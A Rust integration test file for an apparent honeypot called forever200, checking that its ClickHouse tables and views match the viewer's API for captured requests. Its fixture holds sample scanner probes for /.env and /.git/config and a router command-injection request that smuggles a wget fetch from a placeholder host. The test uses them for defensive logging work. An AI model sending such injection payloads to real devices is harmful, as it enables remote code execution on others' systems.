//! Tables and views of deploy/clickhouse, filled with real lines, give the same results as the
//! viewer's pages for the same requests.
//!
//! They run in ClickHouse's own engine, in a Python process. `make test-clickhouse` installs it.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;
use std::process::Stdio;

use anyhow::{Context, ensure};
use forever200_testkit::client::exchange_from;
use forever200_testkit::process::{command, project};
use forever200_testkit::{RESPONSE, Stack, get_json, until};
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

const INSERT: &str = "INSERT INTO forever200.lines FORMAT JSONEachRow";
/// Requests of different kinds: with labels and without, some of them alike, some not HTTP, some
/// with bytes that JSON escapes.
const REQUESTS: [&[u8]; 10] = [
    b"GET /.env HTTP/1.1\r\nHost: a.example\r\nUSER-AGENT: curl/8\r\n\r\n",
    b"GET /.env HTTP/1.1\r\nHost: b.example\r\n\r\n",
    b"GET /.git/config HTTP/1.1\r\n\r\n",
    b"GET /qqq/1?a=x HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /qqq/22?a=yy HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://192.0.2.9/x) HTTP/1.1\r\n\r\n",
    b"SSH-2.0-Go\r\n",
    b"\x16\x03\x01\x00\xff\"\n\\\x00\xe2\x80\xae",
    b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\n\r\n\x00\xff\n\n\"\\",
    b"\n\n\x01\x02",
];

/// A forever200 that writes a line for each request.
struct Kept {
    stack: Stack,
    folder: TempDir,
}

impl Kept {
    async fn start() -> anyhow::Result<Self> {
        let folder = tempfile::tempdir()?;
        let path = |name| folder.path().join(name).to_str().map(str::to_owned);
        let lines = path("lines").context("an odd name")?;
        let history = path("history").context("an odd name")?;
        let variables = [
            ("FOREVER200_CAPTURES", &*lines),
            ("FOREVER200_HISTORY", &*history),
        ];
        let stack = Stack::start_with(&variables).await?;
        Ok(Self { stack, folder })
    }

    /// Sends each of [`REQUESTS`], most of them several times and from several addresses.
    async fn send_all(&self) -> anyhow::Result<u64> {
        let mut sent = 0;
        for (number, request) in REQUESTS.iter().enumerate() {
            for source in 0..=number as u8 % 4 {
                let source = [127, 60, source % 3, number as u8 % 5 + 1].into();
                let reply = exchange_from(source, self.stack.front(), request).await?;
                assert_eq!(reply, RESPONSE);
                sent += 1;
            }
        }
        Ok(sent)
    }

    /// Waits until `count` requests have a line, and returns the lines.
    async fn lines(&self, count: u64) -> anyhow::Result<String> {
        let file = self.folder.path().join("lines");
        until(&format!("{count} requests have a line"), || async {
            let lines = std::fs::read_to_string(&file).ok()?;
            (lines.matches('\n').count() as u64 == count).then_some(lines)
        })
        .await
    }

    /// Returns the values of all slots of the ring.
    async fn slots(&self) -> anyhow::Result<Vec<Vec<u8>>> {
        let stream = TcpStream::connect(self.stack.at(11211)).await?;
        let mut stream = BufReader::new(stream);
        let mut values = Vec::new();
        for slot in 0..101 {
            let get = format!("get forever200:slot:{slot}\r\n");
            stream.write_all(get.as_bytes()).await?;
            let mut line = String::new();
            stream.read_line(&mut line).await?;
            let Some(length) = line.split_whitespace().nth(3) else {
                continue;
            };
            let mut value = vec![0; length.parse::<usize>()? + b"\r\nEND\r\n".len()];
            stream.read_exact(&mut value).await?;
            value.truncate(value.len() - b"\r\nEND\r\n".len());
            values.push(value);
        }
        Ok(values)
    }
}

/// A ClickHouse for one test.
struct ClickHouse(TempDir);

impl ClickHouse {
    fn with_tables() -> anyhow::Result<Self> {
        let clickhouse = Self(tempfile::tempdir()?);
        clickhouse.run(&read("deploy/clickhouse/tables.sql")?)?;
        Ok(clickhouse)
    }

    /// Runs statements, and returns the result of the last one, a value for each row.
    fn run(&self, statements: impl AsRef<[u8]>) -> anyhow::Result<Vec<Value>> {
        let mut client = command(project().join("crates/testkit/clickhouse/client"))
            .arg(self.0.path())
            .env("PYTHONPATH", project().join("target/clickhouse"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()?;
        let mut stdin = client.stdin.take().context("no standard input")?;
        stdin.write_all(statements.as_ref())?;
        drop(stdin);
        let output = client.wait_with_output()?;
        let error = String::from_utf8_lossy(&output.stderr);
        ensure!(
            output.status.success(),
            "{error}\nMissing? make test-clickhouse installs it"
        );
        let rows = output.stdout.split(|&byte| byte == b'\n');
        let rows = rows.filter(|row| !row.is_empty());
        Ok(rows.map(serde_json::from_slice).collect::<Result<_, _>>()?)
    }

    fn ask(&self, question: &str) -> anyhow::Result<Vec<Value>> {
        let settings =
            "SETTINGS output_format_json_quote_64bit_integers = 0, date_time_output_format = 'iso'";
        self.run(format!("{question} {settings} FORMAT JSONEachRow"))
    }

    fn insert(&self, lines: &str) -> anyhow::Result<()> {
        self.run(format!("{INSERT}\n{lines}")).map(drop)
    }
}

fn read(file: &str) -> anyhow::Result<String> {
    std::fs::read_to_string(project().join(file)).with_context(|| file.to_owned())
}

/// Returns these fields of the rows, by the value of the first field.
fn by_first(rows: &[Value], fields: &[&str]) -> BTreeMap<String, Vec<Value>> {
    let of_row = |row: &Value| {
        let values = fields.iter().map(|&field| match &row[field] {
            Value::Null => json!(""),
            value => value.clone(),
        });
        (row[fields[0]].to_string(), values.collect())
    };
    rows.iter().map(of_row).collect()
}

/// Returns the entries on all pages of a list of the API.
async fn pages(stack: &Stack, path: &str, list: &str) -> anyhow::Result<Vec<Value>> {
    let page = get_json(stack.front(), path).await?;
    ensure!(page["next"].is_null() && page["pages"].as_u64().unwrap_or(1) == 1);
    Ok(page[list].as_array().context("no list")?.clone())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs ClickHouse's engine: make test-clickhouse"]
async fn collection_and_sources_are_those_of_the_viewer() -> anyhow::Result<()> {
    let kept = Kept::start().await?;
    let sent = kept.send_all().await?;
    let lines = kept.lines(sent).await?;
    let clickhouse = ClickHouse::with_tables()?;
    // Some lines come twice, as after a kill of the viewer. And an export has all of them once
    // more.
    clickhouse.insert(&lines)?;
    let twice: String = lines.split_inclusive('\n').take(5).collect();
    clickhouse.insert(&twice)?;
    let export = kept.stack.get("/home/export.ndjson?since=1h").await?.text();
    assert_eq!(export.lines().count() as u64, sent);
    clickhouse.insert(&export)?;
    let count = clickhouse.ask("SELECT count() AS n FROM forever200.request FINAL")?;
    assert_eq!(count, [json!({ "n": sent })]);

    let kinds = pages(&kept.stack, "/home/api/collection", "kinds").await?;
    let fields = [
        "kind", "title", "category", "requests", "sources", "first", "last",
    ];
    let own = clickhouse.ask("SELECT * FROM forever200.collection")?;
    assert_eq!(by_first(&own, &fields), by_first(&kinds, &fields));
    let specimens =
        clickhouse.ask("SELECT kind, specimen.2 AS specimen FROM forever200.collection")?;
    let specimen = ["kind", "specimen"];
    assert_eq!(by_first(&specimens, &specimen), by_first(&kinds, &specimen));

    let sources = pages(&kept.stack, "/home/api/sources", "sources").await?;
    let fields = [
        "address", "country", "as_name", "requests", "kinds", "first", "last",
    ];
    let own = clickhouse.ask("SELECT * FROM forever200.sources")?;
    assert_eq!(by_first(&own, &fields), by_first(&sources, &fields));

    let address = sources[0]["address"].as_str().context("no address")?;
    let one = get_json(kept.stack.front(), &format!("/home/api/sources/{address}")).await?;
    let fields = ["kind", "requests", "first", "last"];
    let question = format!("SELECT * FROM forever200.kind_source WHERE address = '{address}'");
    let sent = one["sent"].as_array().context("no kinds")?;
    assert_eq!(
        by_first(&clickhouse.ask(&question)?, &fields),
        by_first(sent, &fields)
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs ClickHouse's engine: make test-clickhouse"]
async fn a_row_says_what_the_line_says_and_has_the_bytes() -> anyhow::Result<()> {
    let kept = Kept::start().await?;
    let sent = kept.send_all().await?;
    let lines = kept.lines(sent).await?;
    let clickhouse = ClickHouse::with_tables()?;
    // Lines with the fields of a hub, with a masked address, and with fields that do not exist yet.
    let changed = lines
        .replace("\"sensor\":null", "\"sensor\":\"berlin\"")
        .replace(
            "{\"event_type\":\"request\",",
            "{\"event_type\":\"request\",\"src_prefix\":24,\"later\":{\"a\":[1]},",
        );
    let gap = "{\"event_type\":\"gap\",\"timestamp\":\"2026-01-02T03:04:05.000006Z\",\"reason\":\"slow_reader\",\
        \"requests\":5,\"first_seq\":3,\"last_seq\":9,\"since\":\"2026-01-02T03:04:04.000000Z\",\
        \"until\":\"2026-01-02T03:04:05.000006Z\"}\n";
    clickhouse.insert(&format!("{changed}{gap}"))?;
    let rows = clickhouse.ask(
        "SELECT * EXCEPT raw, base64Encode(raw) AS raw_base64 FROM forever200.request ORDER BY seq",
    )?;
    assert_eq!(rows.len() as u64, sent);
    for (line, row) in changed.lines().zip(&rows) {
        let line: Value = serde_json::from_str(line)?;
        for field in [
            "sensor",
            "seq",
            "timestamp",
            "src_ip",
            "src_prefix",
            "src_port",
            "dest_ip",
            "dest_port",
            "via",
            "bytes",
            "extra",
            "truncated",
            "ended",
            "responder",
            "protocol",
            "kind",
            "actions",
            "raw_base64",
        ] {
            assert_eq!(row[field], line[field], "{field}: {line}");
        }
        let or_empty = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        assert_eq!(row["target"], or_empty(&line["http"]["target"]));
        assert_eq!(row["asked_for"], or_empty(&line["asked_for"]["name"]));
        let labels = line["labels"].as_array().context("no labels")?;
        let ids: Vec<_> = labels.iter().map(|label| &label["id"]).collect();
        assert_eq!(row["labels"], json!(ids));
    }
    assert_eq!(rows[0]["user_agent"], "curl/8");
    assert_eq!(
        clickhouse.ask("SELECT * FROM forever200.gap")?,
        [
            json!({ "sensor": "", "first_seq": 3, "last_seq": 9, "requests": 5, "reason": "slow_reader",
            "since": "2026-01-02T03:04:04.000000Z", "until": "2026-01-02T03:04:05.000006Z" })
        ]
    );
    Ok(())
}

/// This ClickHouse lacks the NATS engine. A table that stores nothing replaces it.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs ClickHouse's engine: make test-clickhouse"]
async fn a_message_from_nats_becomes_the_row_that_the_line_becomes() -> anyhow::Result<()> {
    let kept = Kept::start().await?;
    let sent = kept.send_all().await?;
    let lines = kept.lines(sent).await?;
    let clickhouse = ClickHouse::with_tables()?;
    let statements = read("deploy/clickhouse/nats.sql")?;
    let (table, view) = statements.split_once(";\n").context("one statement")?;
    // The statement was read to its end; only the engine is missing.
    let error = clickhouse.run(table).err().context("it is there")?;
    ensure!(
        format!("{error:#}").contains("Unknown table engine NATS"),
        "{error:#}"
    );
    clickhouse
        .run("CREATE TABLE forever200.messages (message String, _subject String) ENGINE = Null")?;
    clickhouse.run(view)?;
    let slots = kept.slots().await?;
    assert_eq!(slots.len() as u64, sent);
    let messages = kept.folder.path().join("messages");
    std::fs::create_dir(&messages)?;
    let all = slots.iter().cloned().chain(nonsense(&slots[0])?);
    for (number, message) in all.enumerate() {
        std::fs::write(messages.join(number.to_string()), message)?;
    }
    clickhouse.run(insert_messages(&messages))?;
    clickhouse.insert(&lines)?;
    let columns = "seq, timestamp, src_ip, src_port, dest_ip, dest_port, via, bytes, extra, truncated, ended, continues, \
        responder, base64Encode(raw) AS raw";
    let of = |sensor: &str| {
        clickhouse.ask(&format!(
            "SELECT {columns} FROM forever200.request WHERE sensor = '{sensor}' ORDER BY seq"
        ))
    };
    let by_message = of("berlin")?;
    assert_eq!(by_message.len() as u64, sent);
    assert_eq!(by_message, of("")?);
    Ok(())
}

/// Returns what a sensor in a stranger's hands may send: bytes that are no record, or a record with
/// impossible fields.
fn nonsense(record: &[u8]) -> anyhow::Result<Vec<Vec<u8>>> {
    let no_records: [&[u8]; 5] = [
        b"",
        b"\0\xff no line",
        b"{\"seq\":\"x\"}\nabc",
        b"{}\n",
        b"[1,2\n",
    ];
    let end = record.iter().position(|&byte| byte == b'\n');
    let record: Value = serde_json::from_slice(&record[..end.context("no line")?])?;
    let forged = [
        ("seq", json!(0)),
        ("timestamp", json!("soon")),
        ("timestamp", json!("1970-01-01T00:00:00.000000Z")),
        ("timestamp", json!("2299-01-01T00:00:00.000000Z")),
        ("src_ip", json!("\u{1b}[2J")),
        ("dest_ip", json!("here")),
        ("via", json!("hope")),
        ("ended", json!("well")),
        ("responder", json!("me")),
    ];
    let forged = forged.into_iter().map(|(field, value)| {
        let mut record = record.clone();
        record[field] = value;
        format!("{record}\nbytes").into_bytes()
    });
    Ok(no_records
        .into_iter()
        .map(<[u8]>::to_vec)
        .chain(forged)
        .collect())
}

fn insert_messages(folder: &Path) -> String {
    format!(
        "INSERT INTO forever200.messages (message, _subject) SELECT message, 'forever200.berlin' \
         FROM file('{}/*', 'RawBLOB', 'message String')",
        folder.display()
    )
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs ClickHouse's engine: make test-clickhouse"]
async fn every_question_of_the_document_has_an_answer() -> anyhow::Result<()> {
    let kept = Kept::start().await?;
    let sent = kept.send_all().await?;
    let lines = kept.lines(sent).await?;
    let clickhouse = ClickHouse::with_tables()?;
    clickhouse.insert(&lines)?;
    let gap = "{\"event_type\":\"gap\",\"reason\":\"slow_reader\",\"requests\":5,\"first_seq\":3,\"last_seq\":9,\
        \"since\":\"2026-01-02T03:04:04.000000Z\",\"until\":\"2026-01-02T03:04:05.000006Z\"}\n";
    clickhouse.insert(gap)?;
    // The same lines as from a second sensor, without one of the kinds, and with the address that
    // is the document's example.
    let second = lines.replace("127.60.0.1", "203.0.113.7");
    let second = second.replace("\"sensor\":null", "\"sensor\":\"berlin\"");
    let without_ssh = second
        .split_inclusive('\n')
        .filter(|line| !line.contains("SSH-2.0"));
    clickhouse.insert(&without_ssh.collect::<String>())?;
    let document = read("docs/clickhouse.md")?;
    let questions: Vec<&str> = document
        .split("```sql\n")
        .skip(1)
        .filter_map(|text| text.split("\n```").next())
        .collect();
    ensure!(questions.len() >= 10, "{}", questions.len());
    for question in questions {
        let question = question.trim_end_matches(';');
        let rows = clickhouse.run(format!("{question}\nFORMAT JSONEachRow"))?;
        ensure!(!rows.is_empty(), "no answer: {question}");
    }
    Ok(())
}
